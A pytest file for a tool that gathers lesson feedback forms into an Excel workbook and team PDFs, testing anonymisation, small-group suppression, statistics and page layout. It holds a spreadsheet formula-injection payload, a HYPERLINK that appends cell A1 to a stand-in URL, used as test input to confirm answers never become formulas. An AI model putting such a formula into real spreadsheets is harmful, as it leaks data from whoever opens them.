"""The workbook and the pages: what stands in them, for whom, and that no answer is ever a formula."""

import re
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from conftest import Blanks
from filling import filled_by_pikepdf, filled_by_word
from openpyxl import load_workbook
from pypdf import PdfReader

from lessonbuild.collecting.collect import Collected, collect
from lessonbuild.collecting.forms import Form, Kind

EVIL = '=HYPERLINK("http://example.org/"&A1,"click")'
SECRET = "Zebediah"
SESSION = 6


def texts(data: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages).split())


@pytest.fixture(scope="module")
def folder(blanks: Blanks, ours: dict[str, Form], tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("forms")
    for number, (name, answers) in enumerate(forms(ours)):
        word = number % 2
        data = (filled_by_word if word else filled_by_pikepdf)(blanks[name, "word" if word else "pikepdf"], answers)
        (made / f"{number:02} {SECRET}.{'docx' if word else 'pdf'}").write_bytes(data)
    return made


def forms(ours: dict[str, Form]) -> Iterator[tuple[str, dict[str, str | int | bool]]]:
    rated = [question.id for question in ours["rubric"].ratings]
    for team, levels in (("1", (1, 3)), ("=2+5", (2, 2))):
        for person, level in enumerate(levels):
            yield (
                "rubric",
                {"team": team, "assessor": f"{SECRET} {person}", "comments": EVIL} | dict.fromkeys(rated, level),
            )
    for team, raters in (("1", 3), ("=2+5", 2)):
        for person in range(raters):
            said = {"suggestion": f"Suggestion {person} for {team}", "question": f"Why, {SECRET}?"}
            yield "peer-feedback", {"reviewed": team, "reviewer": f"{SECRET} {person}"} | said | dict.fromkeys(rated, 2)
    yield "peer-feedback", {"suggestion": "Nobody is named here", "signs": 1}
    for person in range(SESSION):
        ratings = {q.id: person % 3 + 1 for q in ours["session-feedback"].ratings}
        yield "session-feedback", ratings | {"background": 1 if person < 4 else 2, "best": f"Bread {person}"}


@pytest.fixture(scope="module")
def collected(folder: Path, lesson_file: Path) -> Collected:
    return collect([folder], [lesson_file])


def rows(made: Collected, sheet: str) -> list[tuple[object, ...]]:
    book = load_workbook(BytesIO(made.files["results.xlsx"]), data_only=True)
    return [row for row in book[sheet].iter_rows(values_only=True) if any(cell is not None for cell in row)]


def row(made: Collected, sheet: str, first: object) -> tuple[object, ...]:
    return next(each for each in rows(made, sheet) if each[0] == first)


def test_a_team_has_means_spread_and_agreement(collected: Collected) -> None:
    head, team = row(collected, "Rubric", "Team"), row(collected, "Rubric", "Team 1")
    found = dict(zip(head, team, strict=True))
    assert (found["Forms"], found["Signs"], found["Mean level"]) == (2, 2, 2)
    assert found["Points"] == pytest.approx((100 / 3 + 100) / 2, abs=0.01)
    assert found["Units"] == 3
    assert found["Alpha"] == pytest.approx(-2 / 3, abs=0.01)  # two raters who never agree, on every unit alike


def test_means_are_formulas_over_all_answers(collected: Collected) -> None:
    sheet = load_workbook(BytesIO(collected.files["results.xlsx"]))["Rubric"]
    (formula,) = {str(cell.value) for cell in sheet["G"] if "AVERAGEIFS" in str(cell.value)}
    assert re.search(r"'?Answers'?!\$H\$5:\$H\$\d+", formula)


def test_no_answer_is_a_formula(collected: Collected) -> None:
    book = load_workbook(BytesIO(collected.files["results.xlsx"]))
    formulas = [cell.value for sheet in book for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    assert formulas
    assert all(str(formula).startswith("=ROUND(AVERAGEIFS('Answers'!") or "AVERAGEIFS(Answers!" in str(formula)
               for formula in formulas)  # fmt: skip
    assert EVIL in {cell for line in rows(collected, "Comments") for cell in line}
    assert row(collected, "Rubric", "=2+5")


def test_nobody_is_named_unless_names_are_asked_for(collected: Collected, folder: Path, lesson_file: Path) -> None:
    by = {line[3] for line in rows(collected, "Answers")[3:] if line[1] != "session-feedback"}
    assert all(re.fullmatch(r"Person \d+", str(name)) for name in by)
    named = collect([folder], [lesson_file], names=True)
    assert f"{SECRET} 0" in {line[3] for line in rows(named, "Answers")}
    assert named.files["results-team-1.pdf"] == collected.files["results-team-1.pdf"]


def test_comments_without_a_team_stand_last_on_a_sheet_for_the_facilitator(collected: Collected) -> None:
    comments = rows(collected, "Comments")
    assert "facilitator only" in str(comments[1][0])
    nobody = [line for line in comments if line[0] == "No team named"]
    assert comments[-len(nobody) :] == nobody
    assert "Nobody is named here" in {line[3] for line in nobody}
    for name, data in collected.files.items():
        assert not name.endswith(".pdf") or "Nobody is named here" not in texts(data)


def test_a_small_group_is_not_shown(collected: Collected, folder: Path, lesson_file: Path) -> None:
    group = [line for line in rows(collected, "Answers") if line[4] == "background"]
    assert {line[6] for line in group} == {"(a group of fewer than 5)"}
    assert "Session by group" not in load_workbook(BytesIO(collected.files["results.xlsx"])).sheetnames
    named = load_workbook(BytesIO(collect([folder], [lesson_file], names=True).files["results.xlsx"]))
    assert "Session by group" in named.sheetnames


def test_what_fewer_than_five_said_of_the_session_is_not_shown(
    folder: Path, lesson_file: Path, ours: dict[str, Form]
) -> None:
    few = collect(sorted(folder.iterdir())[-4:], [lesson_file])
    rated = {question.id for question in ours["session-feedback"].ratings}
    answers = [line for line in rows(few, "Answers") if line[4] in rated]
    assert answers
    assert all(line[7] is None for line in answers)
    assert all(line[2] is None for line in rows(few, "Session")[3:])


def test_peers_are_quoted_from_three_up(collected: Collected) -> None:
    first, second = texts(collected.files["results-team-1.pdf"]), texts(collected.files["results-2-5.pdf"])
    assert "Peers: level" in first
    assert "Suggestion 1 for 1" in first
    assert "Suggestion" not in second
    assert "Peers: level" not in second
    assert "from three of them up" in second


def test_what_may_name_somebody_is_not_handed_back(collected: Collected) -> None:
    assert all(SECRET not in texts(data) for name, data in collected.files.items() if name.endswith(".pdf"))
    assert "3 more comments" in texts(collected.files["results-team-1.pdf"])
    flagged = [line for line in rows(collected, "Comments") if SECRET in str(line[3])]
    assert flagged
    assert all(line[4] == "yes" for line in flagged)


def test_a_page_stays_one_page_however_much_was_written(
    blanks: Blanks, ours: dict[str, Form], lesson_file: Path, tmp_path: Path
) -> None:
    form = ours["peer-feedback"]
    for person in range(12):
        said = {q.id: f"{person} " + "many words " * 80 for q in form.questions if q.kind is Kind.WORDS}
        answers = said | dict.fromkeys((q.id for q in form.ratings), 3) | {"reviewed": "1", "reviewer": f"R{person}x"}
        (tmp_path / f"{person}.pdf").write_bytes(filled_by_pikepdf(blanks["peer-feedback", "pikepdf"], answers))
    made = collect([tmp_path], [lesson_file])
    page = made.files["results-team-1.pdf"]
    assert len(PdfReader(BytesIO(page)).pages) == 1
    assert re.search(r"\d+ more comments are with your facilitator", texts(page))
    assert not made.problems
